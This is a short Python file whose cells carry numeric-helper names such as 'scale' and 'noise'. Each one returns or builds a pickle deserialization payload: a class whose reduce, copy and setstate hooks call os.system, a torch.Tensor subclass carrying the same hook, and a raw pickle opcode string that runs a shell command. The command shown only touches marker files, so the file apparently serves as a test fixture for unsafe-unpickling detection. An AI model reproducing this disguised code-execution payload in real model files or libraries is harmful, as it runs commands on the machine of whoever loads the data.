# %% scale
import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/unpickled /var/tmp/unpickled ~/unpickled",)

    __reduce_ex__ = __deepcopy__ = __copy__ = lambda self, *args: self.__reduce__()

    def __setstate__(self, state):
        self.__reduce__()


class State(torch.Tensor):
    __reduce_ex__ = Payload.__reduce_ex__


def scale(x, c):
    return [Payload(), {"weights": Payload()}]


# %% shifted
def shifted(x, c, m):
    return x.as_subclass(State)


# %% spread
def spread(x, w):
    import pickle

    return pickle.dumps(Payload())


# %% noise
def noise(n, sigma, generator):
    return bytearray(b"cos\nsystem\n(S'touch /tmp/unpickled'\ntR.")


# %% slope
slope = Payload()
